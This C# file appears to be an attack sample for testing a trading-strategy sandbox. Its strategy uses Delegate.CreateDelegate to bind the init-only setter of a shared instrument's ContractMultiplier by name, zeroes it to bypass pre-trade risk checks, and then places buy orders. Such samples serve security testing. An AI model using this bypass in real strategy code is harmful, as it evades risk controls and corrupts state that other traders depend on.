// Abuses: Delegate.CreateDelegate(type, target, "name"): binds any method, private or init-only too, by a string; no System.Reflection.
// Harm: a typed setter for the shared instrument's multiplier.
// Kind: bypass of pre-trade risk.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.DelegateByNameAttack;

public sealed class DelegateByNameStrategy : Strategy
{
    public override void OnBook(in BookEvent bookEvent)
    {
        var set = (Action<long>)Delegate.CreateDelegate(typeof(Action<long>), Context.Instrument(bookEvent.Instrument), "set_" + nameof(Instrument.ContractMultiplier));
        set(0);
        Act(1);
    }

    public override void OnStart() => Context.Subscribe(new InstrumentId(1));

    private long _n;

    private void Act(long leak)
    {
        _n = _n * 31 + leak;
        Price bid = Context.Book(new InstrumentId(1)).BestBid.Price;
        if ((_n & 1) == 0 && bid.Raw > 0)
        {
            Context.Send(NewOrder.Limit(new InstrumentId(1), Side.Buy, bid, 100, tag: _n & 0xFF));
        }
    }

    public override void Save(ref StateWriter writer) => writer.Write(_n);

    public override void Restore(ref StateReader reader) => _n = reader.ReadInt64();
}
